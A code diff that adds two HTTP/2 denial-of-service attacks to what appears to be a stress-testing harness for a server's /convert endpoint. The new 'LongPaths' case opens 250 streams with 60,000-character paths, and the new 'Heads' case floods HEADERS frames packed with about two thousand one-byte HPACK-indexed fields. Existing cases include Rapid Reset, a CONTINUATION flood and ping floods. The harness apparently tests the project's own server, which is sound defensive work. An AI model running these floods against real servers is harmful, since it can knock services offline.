@@ -38,6 +38,8 @@ pub(crate) enum Attack {
     Busy,
     /// HTTP/2 streams whose body never begins.
     Announced,
+    /// The same, with a path as long as a head may be.
+    LongPaths,
     /// Answers that are never read, in HTTP/2.
     Unread,
     /// Answers that are never read, in HTTP/1.1, where the next request is sent all the same.
@@ -48,6 +50,8 @@ pub(crate) enum Attack {
     RapidReset,
     /// A head in HTTP/2 that never ends (CVE-2024-27316).
     Continuation,
+    /// Heads in HTTP/2 of two thousand fields, which cost a byte each to send.
+    Heads,
     /// Pings that have to be answered.
     Pings,
     /// Settings that have to be acknowledged.
@@ -71,7 +75,7 @@ pub(crate) enum Attack {
 }
 
 impl Attack {
-    pub(crate) const ALL: [Self; 26] = [
+    pub(crate) const ALL: [Self; 28] = [
         Self::Silent,
         Self::SilentAdmin,
         Self::IdleTls,
@@ -83,11 +87,13 @@ impl Attack {
         Self::Asked,
         Self::Busy,
         Self::Announced,
+        Self::LongPaths,
         Self::Unread,
         Self::UnreadHttp1,
         Self::Handshakes,
         Self::RapidReset,
         Self::Continuation,
+        Self::Heads,
         Self::Pings,
         Self::Settings,
         Self::Malformed,
@@ -128,6 +134,7 @@ impl Attack {
             Self::Asked | Self::Busy | Self::DrippingHeads | Self::HalfHeads | Self::IdleTls => 400,
             Self::DrippingBodies | Self::HalfBodies | Self::Http2Bodies => 100,
             Self::UnreadHttp1 => 50,
+            Self::Heads | Self::LongPaths => 20,
             Self::Announced => 9,
             Self::EmptyObjects
             | Self::Failing
@@ -159,8 +166,12 @@ impl Attack {
             }
             Self::Asked => ask(&dial, Duration::MAX).await,
             Self::Busy => again(|| ask(&dial, Duration::from_millis(100))).await,
-            Self::Announced => streams(&dial.http2(), false).await,
-            Self::Unread => streams(&dial.http2().window(0), true).await,
+            Self::Announced => streams(&dial.http2(), "/convert", false).await,
+            Self::LongPaths => {
+                let path = format!("/convert?{}", "x".repeat(60_000));
+                streams(&dial.http2(), &path, false).await
+            }
+            Self::Unread => streams(&dial.http2().window(0), "/convert", true).await,
             Self::UnreadHttp1 => again(|| pipeline(&dial)).await,
             Self::Handshakes => again(|| dial.handshake()).await,
             Self::RapidReset => again(|| flood(&dial, iter::successors(Some(1), |id| Some(id + 2)).map(reset))).await,
@@ -168,6 +179,7 @@ impl Attack {
                 let frames = || iter::once(frame(1, 0, 1, HEADERS)).chain(iter::repeat_with(|| frame(9, 0, 1, &MORE)));
                 again(|| flood(&dial, frames())).await
             }
+            Self::Heads => again(|| flood(&dial, iter::successors(Some(1), |id| Some(id + 2)).map(head))).await,
             Self::Pings => again(|| flood(&dial, iter::repeat_with(|| frame(6, 0, 0, &[0; 8])))).await,
             Self::Settings => again(|| flood(&dial, iter::repeat_with(|| frame(4, 0, 0, &[])))).await,
             Self::Malformed => again(|| malformed(&dial)).await,
@@ -208,15 +220,15 @@ async fn write(dial: &Dial, head: &str, body: usize) -> Option<()> {
     hold(Ok(tls)).await
 }
 
-async fn streams(dial: &Dial, whole: bool) -> Option<()> {
+async fn streams(dial: &Dial, path: &str, whole: bool) -> Option<()> {
     let client = dial.connect().await.ok()?;
     let mut streams = JoinSet::new();
     for _ in 0..250 {
-        let mut stream = client.stream();
+        let (mut stream, path) = (client.stream(), path.to_owned());
         streams.spawn(async move {
             match whole {
-                true => stream.post("/convert", vec![b' '; 50_000]).await.map(drop),
-                false => stream.announce("/convert", 1 << 20).await.map(drop),
+                true => stream.post(&path, vec![b' '; 50_000]).await.map(drop),
+                false => stream.announce(&path, 1 << 20).await.map(drop),
             }
         });
     }
@@ -358,6 +370,14 @@ fn reset(stream: u32) -> Vec<u8> {
     let mut frames = frame(1, END_HEADERS, stream & 0x7fff_ffff, HEADERS);
     frames.extend(frame(3, 0, stream & 0x7fff_ffff, &8_u32.to_be_bytes()));
     frames
+}
+
+/// A request without a body, with `a: b` as often as fits into 64 KiB: once in full, and from then on by its index.
+fn head(stream: u32) -> Vec<u8> {
+    const END_STREAM_AND_HEADERS: u8 = 5;
+    let field: &[u8] = if stream == 1 { b"\x40\x01a\x01b" } else { b"\xbe" };
+    let payload = [HEADERS, field, &b"\xbe".repeat(1900)].concat();
+    frame(1, END_STREAM_AND_HEADERS, stream & 0x7fff_ffff, &payload)
 }
 
 /// `POST https://localhost/convert` in HPACK.
